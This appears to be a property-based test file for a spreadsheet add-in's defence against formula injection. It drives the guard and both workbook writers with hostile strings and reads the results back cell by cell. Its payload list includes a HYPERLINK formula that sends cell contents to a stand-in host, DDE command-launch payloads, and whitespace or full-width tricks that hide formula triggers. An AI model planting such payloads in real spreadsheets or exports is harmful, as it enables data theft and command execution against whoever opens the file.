"""Formula injection: no text cell Plancell writes can start a formula; numbers stay numbers.

The guard (:mod:`addin.safe`) is checked against an oracle written independently here,
then both real writers (XlsxWriter for new workbooks, openpyxl for the planner's own
file) are driven with hostile SKU, Location, Category, Supplier, Reason and Why strings
and the written file is read back cell by cell. Examples per run (hypothesis
``max_examples``): 4,000 + 4,500 strings and 1,000 numbers on the guard, and 12 workbooks
per writer with about 80 hostile strings each (~1,900), over 10,000 strings in all.
"""

from __future__ import annotations

import re
import shutil
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from addin.port import FileBook
from addin.safe import safe_text
from addin.sheets import accuracy_sheet, cell_value, charts_sheet, plan_sheet, purchases_sheet
from addin.workbook import write_plan_workbook
from engine.contract import validate
from engine.plan import build_plan
from engine.synthetic import generate_panel

from .conftest import with_plan_rows

# ----------------------------------------------------------------------------- the oracle

_TRIGGERS = "=+-@"
# Characters some importer (CSV readers, LibreOffice "trim spaces", Google Sheets, a
# copy-paste) may drop before the first visible character.
_INVISIBLE = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})


def _could_evaluate(text: str) -> bool:
    """Would any spreadsheet reading ``text`` as typed input start a formula?"""
    if text[:1] in ("\t", "\r"):
        return True
    rest = text.lstrip()
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) in _INVISIBLE):
        rest = rest[1:]
    if not rest:
        return False
    folded = unicodedata.normalize("NFKC", rest)
    return rest[0] in _TRIGGERS or folded[:1] in _TRIGGERS or unicodedata.normalize("NFKC", rest[0])[:1] in _TRIGGERS


# Prefixes Excel ignores or importers trim, and full-width / small / super- and
# subscript forms that NFKC folds to a trigger.
_HIDING = " \t\r\n\x0b\x0c\u00a0\u2000\u2028\u3000\ufeff\u200b\u200e"
_TRIGGER_FORMS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62",
                  "\ufe63", "\ufe6b", "\u207c", "\u207a", "\u208c", "\u208a"]
_PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=cmd|\' /C calc\'!A0', "+1+1", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "-5", "+0", "=A1"]

hostile = st.builds(
    lambda pre, trig, rest: pre + trig + rest,
    st.text(alphabet=_HIDING, max_size=4),
    st.sampled_from(_TRIGGER_FORMS),
    st.one_of(st.text(max_size=30), st.sampled_from(_PAYLOADS)),
)


def test_oracle_catches_what_it_must() -> None:
    # The oracle itself must be able to fail, or the properties below prove nothing.
    for bad in ("=1", " =1", "\ufeff=1", "\uff1d1", "\t1", "\r1", "\u3000+1", "\n@x", "-5"):
        assert _could_evaluate(bad), bad
    for ok in ("SKU-1", "'=1", "", " ", "a=b", "5", "\u2212" "5"):
        assert not _could_evaluate(ok), ok


# ----------------------------------------------------------------------------- the guard


def _check_guard(value: str) -> None:
    out = safe_text(value)
    assert not _could_evaluate(out), (value, out)
    assert out in (value, "'" + value)           # nothing else changes, nothing is lost
    assert safe_text(out) == out                 # stable across refreshes
    if _could_evaluate(value):
        assert out == "'" + value


@settings(max_examples=4000, deadline=None)
@given(st.text())
def test_guard_on_any_text(value: str) -> None:
    _check_guard(value)


@settings(max_examples=4500, deadline=None)
@given(hostile)
def test_guard_on_triggers_hidden_behind_whitespace_and_full_width_forms(value: str) -> None:
    _check_guard(value)
    assert safe_text(value).startswith("'")


@pytest.mark.parametrize("payload", [*_PAYLOADS, " =1", "\u00a0=1", "\ufeff=1", "\n=1", "\uff1dSUM(A1)",
                                     "\t", "\r", "\u200b@x"])
def test_known_payloads_are_quoted(payload: str) -> None:
    assert safe_text(payload) == "'" + payload


@settings(max_examples=1000, deadline=None)
@given(st.one_of(st.integers(min_value=-(10**15), max_value=10**15),
                 st.floats(allow_nan=False, allow_infinity=False),
                 st.integers(-(2**31), 2**31).map(np.int64),
                 st.floats(allow_nan=False, allow_infinity=False, width=32).map(np.float32)))
def test_numbers_stay_numbers_negatives_included(value: Any) -> None:
    out = cell_value(value)
    assert isinstance(out, float) and out == float(value)


# ----------------------------------------------------------------------------- the writers

# Text that can come out of a workbook: openpyxl never decodes XML-illegal control
# characters (they arrive as _x0001_), so those cannot reach a writer from a planner's data.
_LEGAL = st.characters(blacklist_categories=("Cs",), blacklist_characters=[chr(c) for c in range(32)
                                                                            if chr(c) not in "\t\n\r"])
_HIDING_IN_XML = "".join(ch for ch in _HIDING if ch not in "\x0b\x0c")
cell_text = st.one_of(
    st.builds(lambda pre, trig, rest: pre + trig + rest, st.text(alphabet=_HIDING_IN_XML, max_size=3),
              st.sampled_from(_TRIGGER_FORMS), st.text(alphabet=_LEGAL, max_size=20)),
    st.sampled_from(_PAYLOADS),
    st.text(alphabet=_LEGAL, min_size=1, max_size=20),
)
NEGATIVE = -5.0
# A workbook per example: shrinking a failure would take minutes, the raw example is enough.
_NO_SHRINK = (Phase.explicit, Phase.reuse, Phase.generate)
_WORKBOOK_CHECKS = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]


@pytest.fixture(scope="module")
def planned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    p = generate_panel("W", n_skus=4, n_locations=2, seed=4)
    data = validate(with_plan_rows(p), p.drivers, p.items)
    r = build_plan(data, horizon=4, windows=1, model_params={"n_estimators": 20})
    hist = data.sales[data.sales["Qty"].notna()][["SKU", "Location", "Date", "Qty"]]
    return _Planned(sales=p.sales.tail(60).reset_index(drop=True), items=p.items, result=r, history=hist,
                    base=tmp_path_factory.mktemp("inj-base"))


class _Planned(dict):
    def __repr__(self) -> str:  # hypothesis prints the arguments of a failing example
        return "<planned fixture>"


def _hostile_frames(planned: dict[str, Any], draw: Any) -> tuple[dict[str, pd.DataFrame], list[str]]:
    """The plan's frames with every user-visible text replaced by drawn hostile strings and a
    few numbers made negative. Returns the frames and the strings used."""
    r = planned["result"]
    skus = sorted(r.plan["SKU"].unique())
    locs = sorted(r.plan["Location"].unique())
    sku_new = draw(st.lists(cell_text, min_size=len(skus), max_size=len(skus), unique=True))
    loc_new = draw(st.lists(cell_text, min_size=len(locs), max_size=len(locs), unique=True))
    mapping = {"SKU": dict(zip(skus, sku_new)), "Location": dict(zip(locs, loc_new))}
    used = [*sku_new, *loc_new]

    def texts(n: int) -> list[str]:
        out = draw(st.lists(cell_text, min_size=n, max_size=n))
        used.extend(out)
        return out

    def rekey(df: pd.DataFrame) -> pd.DataFrame:
        df = df.copy()
        for col, m in mapping.items():
            if col in df.columns:
                df[col] = df[col].map(m)
        return df

    plan = rekey(r.plan)
    plan["reason"] = texts(len(plan))
    plan.loc[plan.index[0], "P10"] = NEGATIVE
    acc = rekey(r.accuracy)
    acc["reason"] = texts(len(acc))
    policy = rekey(r.policy)
    policy["Notes"] = texts(len(policy))
    policy.loc[policy.index[0], "OnHand"] = NEGATIVE
    purchases = rekey(r.purchases)
    purchases["Why"] = texts(len(purchases))
    sales = rekey(planned["sales"])
    sales.loc[sales.index[:3], "Qty"] = NEGATIVE
    items = rekey(planned["items"])
    items["Category"] = texts(len(items))
    items["Supplier"] = texts(len(items))
    history = rekey(planned["history"])
    frames = {"plan": plan, "accuracy": acc, "policy": policy, "purchases": purchases, "sales": sales,
              "items": items, "history": history}
    return frames, used


_REF = re.compile(r"^(?:'[^']+'|[A-Za-z0-9_]+)!\$[A-Z]+\$\d+(?::\$[A-Z]+\$\d+)?$")


def _excel_text(text: str) -> str:
    """The text Excel shows: XlsxWriter escapes a CR as _x000D_, which openpyxl leaves as is."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def _lf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _assert_neutral(path: Path, used: list[str]) -> None:
    """Every string cell is inert, no cell is a formula, every hostile string is still
    there (quoted or not), the negatives are numbers, and charts reference only ranges."""
    wb = openpyxl.load_workbook(path)  # formulas mode: a formula would show as data_type "f"
    seen: set[str] = set()
    negatives = {}
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    v = c.value
                    if v is None:
                        continue
                    assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {v!r}"
                    if isinstance(v, str):
                        v = _excel_text(v)
                        assert not _could_evaluate(v), f"{ws.title}!{c.coordinate} = {v!r}"
                        seen.add(v)
                    elif isinstance(v, (int, float)) and v == NEGATIVE:
                        negatives[ws.title] = negatives.get(ws.title, 0) + 1
    finally:
        wb.close()
    # The writer kept the text: each hostile string appears, neutralised when needed.
    # openpyxl writes a bare CR, which XML reads back as LF: compare line breaks loosely.
    seen = {_lf(v) for v in seen}
    missing = [s for s in used if s.strip() and _lf(safe_text(s)) not in seen
               and not any(_lf(safe_text(s)) in x for x in seen)]
    assert not missing, missing[:5]
    assert negatives.get("Plan", 0) >= 2, negatives        # P10 and On hand, as numbers
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/charts/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                for ref in re.findall(r"<c:f>(.*?)</c:f>", xml, flags=re.S):
                    assert _REF.match(ref), f"{name}: chart formula {ref!r} is not a cell range"


@settings(max_examples=12, deadline=None, phases=_NO_SHRINK, suppress_health_check=_WORKBOOK_CHECKS)
@given(data=st.data())
def test_new_workbook_writer_neutralises_every_text_cell(planned: dict[str, Any], data: st.DataObject,
                                                        tmp_path_factory: pytest.TempPathFactory) -> None:
    frames, used = _hostile_frames(planned, data.draw)
    r = planned["result"]
    out = tmp_path_factory.mktemp("inj-xw") / "plan.xlsx"
    write_plan_workbook(out, sales=frames["sales"], drivers=None, items=frames["items"], plan=frames["plan"],
                        accuracy=frames["accuracy"], metadata=r.metadata, policy=frames["policy"],
                        purchases=frames["purchases"], history=frames["history"])
    _assert_neutral(out, used)
    wb = openpyxl.load_workbook(out, read_only=True)
    try:
        qty = [row[3] for row in wb["Sales"].iter_rows(min_row=2, max_row=4, values_only=True)]
    finally:
        wb.close()
    assert qty == [NEGATIVE] * 3                       # negative quantities stay numbers


@pytest.fixture(scope="module")
def base_book(planned: dict[str, Any]) -> Path:
    """A planner's workbook (Sales and Items tables) that refresh writes into."""
    r = planned["result"]
    path = planned["base"] / "book.xlsx"
    write_plan_workbook(path, sales=planned["sales"], drivers=None, items=planned["items"], plan=r.plan,
                        accuracy=r.accuracy, metadata=r.metadata)
    return path


@settings(max_examples=12, deadline=None, phases=_NO_SHRINK, suppress_health_check=_WORKBOOK_CHECKS)
@given(data=st.data())
def test_existing_workbook_writer_neutralises_every_text_cell(planned: dict[str, Any], base_book: Path,
                                                             data: st.DataObject,
                                                             tmp_path_factory: pytest.TempPathFactory) -> None:
    frames, used = _hostile_frames(planned, data.draw)
    r = planned["result"]
    path = tmp_path_factory.mktemp("inj-ox") / "book.xlsx"
    shutil.copyfile(base_book, path)
    book = FileBook(path)
    book.write_sheet(plan_sheet(frames["plan"], r.metadata, policy=frames["policy"]))
    book.write_sheet(accuracy_sheet(r.backtest.overall, frames["accuracy"]), after="Plan")
    book.write_sheet(purchases_sheet(frames["purchases"], None), after="Accuracy")
    book.write_sheet(charts_sheet(frames["history"], frames["plan"]), after="Purchases")
    book.save()
    # Sales/Items were not rewritten here: only check the strings the sheets above carry.
    carried = set(frames["plan"]["SKU"]) | set(frames["plan"]["Location"]) | set(frames["plan"]["reason"]) \
        | set(frames["accuracy"]["reason"]) | set(frames["policy"]["Notes"]) | set(frames["purchases"]["Why"])
    _assert_neutral(path, [s for s in used if s in carried])

